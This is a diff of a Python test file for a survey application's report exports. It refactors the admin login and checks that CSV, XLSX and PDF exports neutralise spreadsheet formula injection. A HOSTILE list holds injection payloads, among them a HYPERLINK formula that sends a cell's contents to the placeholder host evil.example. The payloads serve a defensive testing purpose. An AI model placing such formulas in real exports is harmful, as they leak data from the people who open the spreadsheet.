@@ -15,14 +15,11 @@ from openpyxl import load_workbook
 from surveyapp.extensions import db
 from surveyapp.models import Answer, Organisation
 from surveyapp.reports.exports import FORMULA_START, inert
+from surveyapp.seed import DEMO_PASSWORD
 
 WIDE = {"from": (date.today() - timedelta(days=420)).isoformat(), "to": (date.today() + timedelta(days=1)).isoformat()}
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+2", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
 CONTROL = "Góp ý\x01 có ký tự\x0b điều khiển"
-
-
-def login(client, username="admin", password="demo12345"):
-    assert client.post("/login", data={"username": username, "password": password}).status_code == 302
 
 
 def org(code) -> Organisation:
@@ -52,9 +49,9 @@ def test_inert_neutralises_every_formula_start_and_every_illegal_character():
     assert inert("-ok", spreadsheet=False) == "-ok"
 
 
-def test_csv_export_cells_are_inert_text(client, demo):
+def test_csv_export_cells_are_inert_text(client, demo, auth):
     commune, point = hostile_world()
-    login(client)
+    assert auth.login("admin", DEMO_PASSWORD).status_code == 302
     r = client.get("/admin/export/responses.csv", query_string=WIDE)
     assert r.status_code == 200
     assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
@@ -68,9 +65,9 @@ def test_csv_export_cells_are_inert_text(client, demo):
     assert "'@Quầy\ufffd tiếp nhận" in {row[3] for row in rows[1:]}
 
 
-def test_xlsx_and_pdf_exports_hold_no_formula_and_survive_control_characters(client, demo):
+def test_xlsx_and_pdf_exports_hold_no_formula_and_survive_control_characters(client, demo, auth):
     commune, point = hostile_world()
-    login(client)
+    assert auth.login("admin", DEMO_PASSWORD).status_code == 302
     for scope in ({}, {"org": commune.id}):
         r = client.get("/admin/export/report.xlsx", query_string={**WIDE, **scope})
         assert r.status_code == 200, r.status_code
